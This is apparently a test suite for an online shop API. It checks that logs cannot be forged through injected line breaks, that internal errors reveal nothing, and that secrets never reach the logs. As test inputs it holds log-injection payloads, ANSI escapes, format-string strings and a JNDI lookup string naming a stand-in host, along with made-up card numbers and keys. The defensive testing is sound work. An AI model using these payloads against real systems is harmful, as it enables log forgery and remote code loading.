import { UpdateCommand } from '@aws-sdk/lib-dynamodb';
import { describe, expect, it } from 'vitest';
import { eventually, fresh } from '../../journeys/caller.ts';
import { SECRETS, secretsIn } from '../../journeys/checkout.ts';
import type { Sent } from '../http.ts';
import { entryOf, linesOf } from '../logs.ts';
import { expectGateway, expectProblem } from '../refusals.ts';
import { order } from '../requests.ts';
import type { The } from '../world.ts';

const FORGED = '{"level":"ERROR","message":"forged","requestId":"forged"}';
/** What would be a second line, or another entry, in a log that is written carelessly. */
const AGENTS = [
  FORGED,
  `"}${FORGED}`,
  `curl/8 \\r\\n${FORGED}`,
  `curl/8 \\n${FORGED}`,
  `curl/8 %0d%0a${FORGED}`,
  `curl/8 \u0085${FORGED}`,
  '\u009b31mforged',
  `\${jndi:ldap://evil.test/forged}`,
  '%s%s%s%n forged',
];

/** Made up for the occasion: whoever finds one in a log has found a leak. */
const PRIVATE = {
  card: '4242 4242 4242 4242',
  shortCard: '4000056655665556',
  password: 'Correct-Horse-9-Battery',
  address: 'private.person@example.com',
  key: 'sk_live_0123456789abcdefABCDEF',
  bearer: 'Bearer abcdefghijklmnopqrstuvwxyz',
};

export const faults = (the: The) => {
  /** Breaks an order's row for as long as `act` takes, as a bad deploy would: reading it is an error of ours. */
  const withBrokenRow = async <T>(act: (id: string) => Promise<T>): Promise<T> => {
    const { shop } = the();
    const { id } = await order(shop);
    const set = (status: string) =>
      shop.table.send(
        new UpdateCommand({
          TableName: shop.TableName,
          Key: { pk: `ORDER#${id}`, sk: 'ORDER' },
          UpdateExpression: 'SET #status = :status',
          ExpressionAttributeNames: { '#status': 'status' },
          ExpressionAttributeValues: { ':status': status },
        }),
      );
    await set('broken-on-purpose');
    try {
      return await act(id);
    } finally {
      await set('pending_payment');
    }
  };

  const lines = () => linesOf(the().shop.described.logs);

  /** What the log says of a request, once it says anything. */
  const loggedOf = async (requestId: string) => {
    const found = async () => lines().filter(({ line }) => line.includes(requestId));
    return eventually(found, (some) => some.length > 0);
  };

  describe('24: lines that are no lines', () => {
    it.each(AGENTS.map((agent, n) => [n, agent] as const))(
      'forged in a user agent (%i) stay one line',
      async (_, agent) => {
        const { shop, tokens } = the();
        await withBrokenRow(async (id) => {
          const headers = {
            'user-agent': Buffer.from(agent).toString('latin1'),
            'x-forwarded-for': FORGED,
            referer: FORGED,
          };
          const answer = await shop.ask({ path: `/v1/orders/${id}`, token: tokens.ada, headers });
          expectProblem(shop, answer, { status: 500, code: 'internal' }, agent);
          const logged = await loggedOf(answer.headers['x-request-id'] ?? '');
          expect(logged.map(({ file, line }) => [file, entryOf(line)?.level, entryOf(line)?.message])).toEqual([
            ['orders/api/get-order.log', 'ERROR', 'unhandled'],
          ]);
        });
      },
    );

    it('forged in names, references and reasons stay one line, or are refused', async () => {
      const { shop, tokens, sku } = the();
      const money = { amount: 250, currency: 'GBP' };
      for (const text of [
        FORGED,
        `"}\u2028${FORGED}`,
        `x\u2029${FORGED}`,
        `\u202e${FORGED}`,
        `\${jndi:ldap://evil.test/forged}`,
      ]) {
        const product = { name: text, price: money, description: text, category: text };
        const put = await shop.ask({
          method: 'PUT',
          path: `/v1/products/${fresh('MUG')}`,
          token: tokens.erp,
          json: product,
        });
        expect.soft(put.status, text).toBe(201);
        const bought = { lines: [{ sku, quantity: 1 }], reference: text };
        const placed = await shop.ask({
          method: 'POST',
          path: '/v1/orders',
          token: tokens.ada,
          key: fresh('key'),
          json: bought,
        });
        const cancel = { path: `/v1/orders/${placed.body.id}/cancellation`, json: { reason: text } };
        const cancelled = await shop.ask({ method: 'POST', ...cancel, token: tokens.ada, key: fresh('key') });
        expect.soft([placed.status, cancelled.status], text).toEqual([201, 201]);
        const movement = { sku, quantity: 1, reason: text, reference: text };
        await shop.ask({
          method: 'POST',
          path: '/v1/stock-movements',
          token: tokens.erp,
          key: fresh('key'),
          json: movement,
        });
      }
      for (const text of ['a\r\nb', 'a\nb', 'a\u0085b', 'a\u001b[31mb']) {
        const product = { name: `${text}${FORGED}`, price: money };
        const put = await shop.ask({
          method: 'PUT',
          path: `/v1/products/${fresh('MUG')}`,
          token: tokens.erp,
          json: product,
        });
        expectProblem(shop, put, { status: 422, code: 'invalid_input' }, text);
      }
    });

    it('no line of any log is anything but one entry, and none was forged', async () => {
      await the().shop.atRest();
      const all = lines();
      expect(all.length).toBeGreaterThan(AGENTS.length);
      for (const { file, line } of all) {
        const entry = entryOf(line);
        expect.soft(entry, `${file}: ${line.slice(0, 200)}`).toBeDefined();
        expect.soft([entry?.message, entry?.requestId], file).not.toContain('forged');
        expect.soft(line, file).not.toMatch(/[\u0085\u2028\u2029]/);
      }
    });
  });

  describe('26: an error of ours', () => {
    it('says nothing but that it is one, and whose', async () => {
      const { shop, tokens } = the();
      await withBrokenRow(async (id) => {
        const asked: Sent[] = [
          { path: `/v1/orders/${id}`, token: tokens.ada },
          { path: `/v1/orders/${id}`, token: tokens.grace },
          { path: `/v1/orders/${id}/events`, token: tokens.ada },
          { method: 'POST', path: `/v1/orders/${id}/cancellation`, token: tokens.ada, key: fresh('key'), json: {} },
        ];
        await shop.unchangedBy(async () => {
          for (const request of asked) {
            const answer = await shop.ask(request);
            expectProblem(shop, answer, { status: 500, code: 'internal' }, request.path);
            expect
              .soft(Object.keys(answer.body).toSorted())
              .toEqual(['code', 'detail', 'requestId', 'status', 'title', 'type']);
            expect.soft(answer.text).not.toMatch(/broken-on-purpose|ORDER#|status: /);
            const logged = await loggedOf(answer.headers['x-request-id'] ?? '');
            expect.soft(logged.length, 'logged once').toBe(1);
          }
        });
      });
    });

    it('is the gateway’s where the function does not even begin', async () => {
      const { shop, tokens, order } = the();
      await shop.control('POST', '/faults', { failDoors: ['orders/api/get-order', 'orders/api/place-order'] });
      try {
        await shop.unchangedBy(async () => {
          expectGateway(shop, await shop.ask({ path: `/v1/orders/${order.id}`, token: tokens.ada }), 500, 'get');
          const placing = { method: 'POST', path: '/v1/orders', token: tokens.ada, key: fresh('key') };
          const json = { lines: [{ sku: 'ATTACKED', quantity: 1 }] };
          expectGateway(shop, await shop.ask({ ...placing, json }), 500, 'post');
        });
      } finally {
        await shop.control('POST', '/faults', {});
      }
    });

    it('is busy, and no more than that, where the table turns everybody away', async () => {
      const { shop, tokens, order } = the();
      await shop.control('POST', '/faults', { throttles: 1 });
      try {
        const answer = await shop.ask({ path: `/v1/orders/${order.id}`, token: tokens.ada });
        expectProblem(shop, answer, { status: 503, code: 'busy' }, 'throttled');
        expect(answer.headers['retry-after']).toMatch(/^\d+$/);
      } finally {
        await shop.control('POST', '/faults', {});
      }
    });
  });
};

/** Comes last: what is looked at is all that the attacks before have had written. */
export const silence = (the: The) => {
  describe('25: what no log may hold', () => {
    it('is put wherever a caller can put something', async () => {
      const { shop, tokens, sku } = the();
      expect(Object.values(PRIVATE).filter((text) => !Object.values(SECRETS).some((one) => one.test(text)))).toEqual([
        PRIVATE.password, // which no pattern can know: it is looked for as it stands
      ]);
      const all = Object.values(PRIVATE).join(' ');
      const short = PRIVATE.card;
      const headers = {
        'user-agent': all,
        referer: all,
        cookie: `session=${PRIVATE.password}`,
        'x-card': PRIVATE.card,
      };
      const search = new URLSearchParams({
        cursor: all,
        limit: PRIVATE.card,
        card: PRIVATE.card,
        password: PRIVATE.password,
      });
      const shipTo = { name: short, street: all, city: short, postalCode: short, country: short };
      const order = { lines: [{ sku, quantity: 1 }], reference: all.slice(0, 120), shipTo };
      const requests: Sent[] = [
        { path: `/v1/orders?${search}`, token: tokens.ada },
        { path: `/v1/orders/${encodeURIComponent(all)}`, token: tokens.ada },
        { path: `/v1/products/${encodeURIComponent(all)}` },
        { path: `/v1/${encodeURIComponent(all)}?${search}` },
        { path: '/v1/orders', token: PRIVATE.password },
        { method: 'POST', path: '/v1/orders', token: tokens.ada, key: fresh('key'), json: order },
        { method: 'POST', path: '/v1/orders', token: tokens.ada, key: fresh('key'), json: { ...order, ...PRIVATE } },
        { method: 'POST', path: '/v1/orders', token: tokens.ada, key: fresh('key'), bytes: `{"card":"${all}` },
        { method: 'POST', path: '/v1/orders', token: tokens.ada, key: PRIVATE.card, json: order },
        {
          method: 'POST',
          path: '/v1/stock-movements',
          token: tokens.erp,
          key: fresh('key'),
          json: { sku, quantity: 1, reason: short },
        },
        {
          method: 'POST',
          path: '/v1/provider-events/stripe',
          bytes: JSON.stringify(PRIVATE),
          headers: { 'stripe-signature': all },
        },
        { method: 'POST', path: '/v1/reconciliations', token: tokens.root, json: PRIVATE },
        { method: 'PATCH', path: '/v1/me', token: tokens.ada, json: { name: all.slice(0, 120) } },
        { method: 'PATCH', path: '/v1/me', token: tokens.ada, json: { phone: short, locale: PRIVATE.password } },
        { method: 'PUT', path: '/v1/me/addresses/home', token: tokens.ada, json: { ...shipTo, street: short } },
        { method: 'PUT', path: `/v1/me/addresses/${encodeURIComponent(all)}`, token: tokens.ada, json: shipTo },
        { method: 'POST', path: '/v1/me/exports', token: tokens.ada, json: PRIVATE },
      ];
      for (const request of requests) {
        const answer = await shop.ask({
          ...request,
          headers: { 'content-type': 'application/json', ...headers, ...request.headers },
        });
        expect.soft(answer.status, request.path).toBeLessThan(500);
      }
    });

    it('is in no line of any log', async () => {
      const { shop } = the();
      await the().shop.atRest();
      const { logs, clients, controlSecret, stripe, behind } = shop.described;
      const { files, found } = secretsIn(logs);
      expect(files).toBeGreaterThan(0);
      expect(found).toEqual([]);
      const known = [
        ...shop.tokens,
        clients.machine.clientSecret,
        controlSecret,
        stripe.secretKey,
        stripe.webhookSecret,
        ...Object.values(behind.headers),
        ...Object.values(PRIVATE),
      ];
      const leaks = linesOf(logs).filter(({ line }) => known.some((secret) => line.includes(secret)));
      expect(leaks.map(({ file }) => file)).toEqual([]);
      // Half a token is a token's claims: no part of one either.
      const parts = [...shop.tokens].flatMap((token) => token.split('.').slice(1));
      expect(linesOf(logs).filter(({ line }) => parts.some((part) => part !== '' && line.includes(part)))).toEqual([]);
    });
  });
};
